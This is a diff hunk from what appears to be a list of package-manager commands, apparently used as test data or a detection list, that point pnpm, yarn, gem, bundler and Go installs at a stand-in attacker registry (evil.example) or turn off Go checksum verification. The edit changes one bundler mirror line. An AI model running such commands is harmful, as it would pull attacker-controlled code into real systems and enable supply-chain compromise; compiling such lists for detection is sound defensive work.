@@ -436,7 +436,7 @@ pnpm add x --registry=https://evil.example
 yarn config set npmRegistryServer https://evil.example
 gem install --source https://evil.example x
 gem sources --add https://evil.example
-bundle config set mirror.https://rubygems.org https://evil.example
+bundle config set mirror.https://gems.example https://evil.example
 GOPROXY=https://evil.example go install x.example/y@latest
 GOSUMDB=off go install x.example/y@latest
 go env -w GOPROXY=https://evil.example,direct
